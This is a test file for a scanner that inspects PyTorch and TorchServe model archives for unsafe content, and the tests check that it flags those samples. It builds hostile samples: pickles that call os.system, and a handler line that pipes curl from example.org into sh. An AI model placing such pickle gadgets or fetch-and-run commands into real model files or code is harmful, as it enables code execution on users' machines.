import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { mutated, randomNumbers } from "testkit/mutation";
import { call, global, pickle } from "testkit/pickle";
import { makeTorchTar } from "testkit/torch-tar";
import { makeZip } from "testkit/zip";
import type { ZipEntry } from "testkit/zip";
import { fixture } from "testkit/fixture";
import { namedValues, valuesOf, verdictsOf } from "../test-reading.ts";
import { isRecognised, readWith } from "../test-input.ts";
import { torchArchive } from "./index.ts";

const evil = pickle(call(global("os", "system"), "echo"));
const text = (value: string): Uint8Array => Buffer.from(value);

function pt2(...members: readonly ZipEntry[]): Uint8Array {
  const marks = [
    { name: "m/archive_format", bytes: text("pt2") },
    { name: "m/archive_version", bytes: text("0") },
  ];
  return makeZip([...members, ...marks]);
}

function mar(model: Readonly<Record<string, string>>, ...members: readonly ZipEntry[]): Uint8Array {
  const bytes = text(JSON.stringify({ runtime: "python", model: { modelName: "m", ...model } }));
  return makeZip([...members, { name: "MAR-INF/MANIFEST.json", bytes }]);
}

describe("exported programs of PyTorch 2.8", () => {
  const read = () => readWith(torchArchive, "x/export.pt2", fixture("torch-archive/export.pt2"));

  it("give operators, versions, inputs and outputs", async () => {
    const reading = await read();
    expect(valuesOf(reading, "format")).toEqual(["torch-export"]);
    expect(valuesOf(reading, "formatVersion")).toEqual(["pt2 0", "schema 8.8"]);
    expect(valuesOf(reading, "operators")).toEqual([
      { "aten.linear.default": 1, "aten.mul.Tensor": 1, "aten.relu.default": 1 },
    ]);
    expect(valuesOf(reading, "opset")).toEqual(["aten 10"]);
    expect(valuesOf(reading, "input")).toEqual([
      { name: "x", dtype: "f32", shape: [expect.stringMatching(/^s\d+$/), 3] },
    ]);
    expect(valuesOf(reading, "output")).toEqual([
      { name: "mul", dtype: "f32", shape: [expect.stringMatching(/^s\d+$/), 2] },
    ]);
    expect(valuesOf(reading, "producer")).toEqual([expect.stringMatching(/^torch 2\.8\.0/)]);
  });

  it("give the tensors of the state dict, with their places in the nested archive", async () => {
    const reading = await read();
    // What the state_dict of the program says.
    expect(reading?.tensors.map(({ name, dtype, shape }) => [name, dtype, shape])).toEqual([
      ["linear.weight", "f32", [2, 3]],
      ["linear.bias", "f32", [2]],
      ["scale", "f32", [2]],
    ]);
    const bytes = Buffer.from(fixture("torch-archive/export.pt2"));
    const scale = reading?.tensors[2]?.data;
    expect(scale?.kind).toBe("slice");
    const offset = scale?.kind === "slice" ? scale.offset : 0;
    expect([bytes.readFloatLE(offset), bytes.readFloatLE(offset + 4)]).toEqual([2, 3]);
  });

  it("are safe when their pickles are", async () => {
    expect(await read()).toMatchObject({ hazards: [], problems: [] });
  });

  it.each([
    "data/weights/model.pt",
    "data/constants/model.pt",
    "data/sample_inputs/model.pt",
    "data/constants/custom_obj_0",
  ])("are judged by every pickle: %s", async (name) => {
    const nested = makeZip([{ name: "archive/data.pkl", bytes: evil, deflate: true }]);
    for (const bytes of [evil, nested]) {
      const reading = await readWith(torchArchive, "x.pt2", pt2({ name: `m/${name}`, bytes }));
      expect(verdictsOf(reading)).toContainEqual(expect.stringMatching(/^PICKLE/));
    }
  });

  it("with native code are unknown", async () => {
    const reading = await readWith(
      torchArchive,
      "x.pt2",
      pt2({ name: "m/data/aotinductor/model/a.so", bytes: text("ELF") }),
    );
    expect(verdictsOf(reading)).toEqual(["TORCH-ARCHIVE-NATIVE-CODE unknown"]);
  });

  it("that list their weights in a config have a member for each", async () => {
    const meta = {
      dtype: 7,
      sizes: [{ as_int: 2 }],
      strides: [{ as_int: 1 }],
      storage_offset: { as_int: 0 },
    };
    const config = {
      config: { w: { path_name: "weight_0", is_param: true, use_pickle: false, tensor_meta: meta } },
    };
    const graph = {
      graph_module: {
        graph: { tensor_values: { p_w: meta } },
        signature: { input_specs: [{ parameter: { arg: { name: "p_w" }, parameter_name: "w" } }] },
      },
    };
    const zip = pt2(
      { name: "m/data/weights/weight_0", bytes: new Uint8Array(8) },
      { name: "m/data/weights/model_weights_config.json", bytes: text(JSON.stringify(config)) },
      { name: "m/models/model.json", bytes: text(JSON.stringify(graph)) },
    );
    const reading = await readWith(torchArchive, "x.pt2", zip);
    expect(reading?.tensors).toMatchObject([
      { name: "w", dtype: "f32", shape: [2], data: { kind: "slice", length: 8 } },
    ]);
  });

  it("with a broken graph say so", async () => {
    const reading = await readWith(
      torchArchive,
      "x.pt2",
      pt2({ name: "m/models/model.json", bytes: text("{") }),
    );
    expect(reading?.problems).toMatchObject([{ code: "malformed", member: "m/models/model.json" }]);
  });
});

describe("archives of TorchServe", () => {
  it("give the manifest, and are unknown for their code", async () => {
    const reading = await readWith(torchArchive, "x/tiny.mar", fixture("torch-archive/tiny.mar"));
    expect(valuesOf(reading, "format")).toEqual(["torchserve-mar"]);
    expect(valuesOf(reading, "name")).toEqual(["tiny"]);
    expect(valuesOf(reading, "version")).toEqual(["1.0"]);
    expect(valuesOf(reading, "producer")).toEqual(["torch-model-archiver 0.12.0"]);
    expect(namedValues(reading, "metadata")).toEqual({
      runtime: "python",
      handler: "handler.py",
      serializedFile: "weights.pt",
    });
    expect(verdictsOf(reading)).toEqual(["TORCH-ARCHIVE-HANDLER unknown"]);
    expect(reading?.problems).toEqual([]);
  });

  it("are judged by their handler", async () => {
    const code = text("import os\nos.system('curl https://example.org/x | sh')\n");
    const reading = await readWith(
      torchArchive,
      "x.mar",
      mar({ handler: "h.py" }, { name: "h.py", bytes: code, deflate: true }),
    );
    expect(verdictsOf(reading)).toEqual([
      "PYTHON-HOSTILE-COMMAND dangerous",
      "TORCH-ARCHIVE-HANDLER unknown",
    ]);
    expect(reading?.hazards?.[0]).toMatchObject({ member: "h.py", line: 2 });
  });

  it("are judged by their pickles, whatever those are called", async () => {
    const reading = await readWith(
      torchArchive,
      "x.mar",
      mar({}, { name: "labels.txt", bytes: evil, deflate: true }),
    );
    expect(verdictsOf(reading)).toContainEqual(expect.stringMatching(/^PICKLE/));
  });

  it("may install packages", async () => {
    const zip = mar({ requirementsFile: "r.txt" }, { name: "r.txt", bytes: text("x") });
    expect(verdictsOf(await readWith(torchArchive, "x.mar", zip))).toEqual([
      "TORCH-ARCHIVE-REQUIREMENTS unknown",
    ]);
  });

  it("with source that is too long, or a broken manifest, are not read in full", async () => {
    const long = { name: "h.py", bytes: new Uint8Array(3 << 20) };
    expect((await readWith(torchArchive, "x.mar", mar({}, long)))?.problems).toMatchObject([
      { code: "limit-exceeded" },
    ]);
    const broken = makeZip([{ name: "MAR-INF/MANIFEST.json", bytes: text("{") }]);
    expect((await readWith(torchArchive, "x.mar", broken))?.problems).toMatchObject([{ code: "malformed" }]);
  });

  it("with records that contradict each other are suspicious", async () => {
    const zip = mar({}, { name: "a.txt", bytes: text("x"), local: { name: "b.txt" } });
    expect(verdictsOf(await readWith(torchArchive, "x.mar", zip))).toEqual([
      "TORCH-ARCHIVE-RECORDS suspicious",
    ]);
  });
});

describe("tar files of PyTorch 0.1", () => {
  it("give names, types, shapes and places of tensors", async () => {
    const tar = makeTorchTar();
    const reading = await readWith(torchArchive, "old.pt", tar);
    expect(reading?.problems).toEqual([]);
    expect(verdictsOf(reading)).toEqual([]);
    expect(reading?.tensors).toMatchObject([
      { name: "weight", dtype: "f32", shape: [2, 3], data: { kind: "slice", length: 24 } },
    ]);
    expect(valuesOf(reading, "formatVersion")).toEqual(["tar (PyTorch 0.1)"]);
  });

  it("are judged by their pickles", async () => {
    const reading = await readWith(torchArchive, "old.pt", makeTorchTar(evil));
    expect(verdictsOf(reading)).toContainEqual(expect.stringMatching(/^PICKLE/));
  });
});

describe("hostile archives", () => {
  it.each([
    ["export.pt2", () => fixture("torch-archive/export.pt2")],
    ["tiny.mar", () => fixture("torch-archive/tiny.mar")],
    ["old.pt", () => makeTorchTar()],
  ])("mutated or truncated at random never throw: %s", async (name, make) => {
    const bytes = make();
    await fc.assert(
      fc.asyncProperty(fc.nat(), async (seed) => {
        await readWith(torchArchive, name, mutated(bytes, randomNumbers(seed)));
      }),
      { seed: 3, numRuns: 100 },
    );
  });

  it("whose members share bytes are not read", async () => {
    const zip = mar(
      {},
      { name: "a.txt", bytes: text("x") },
      { name: "b.txt", bytes: text("x"), central: { offset: 0 } },
    );
    expect((await readWith(torchArchive, "x.mar", zip))?.problems[0]?.message).toMatch(/share bytes/);
  });

  it("of other kinds are not taken", async () => {
    expect(isRecognised(torchArchive, evil)).toBe(false);
    expect(await readWith(torchArchive, "x.skops", fixture("skops/pipeline.skops"))).toBeUndefined();
    expect(await readWith(torchArchive, "x.npz", fixture("numpy/arrays-numpy2.npz"))).toBeUndefined();
  });
});

describe("members that the formats have no use for", () => {
  const hostile = text("cos\nsystem\n(S'echo inert'\ntR.");

  it("are judged when they are pickles", async () => {
    for (const file of [
      pt2({ name: "m/extra/notes", bytes: hostile }),
      pt2({ name: "m/data/weights/weight_0", bytes: evil }),
      mar({}, { name: "labels.txt", bytes: hostile }),
    ])
      expect(verdictsOf(await readWith(torchArchive, "x", file))).toContain("PICKLE-GADGET dangerous");
  });
});
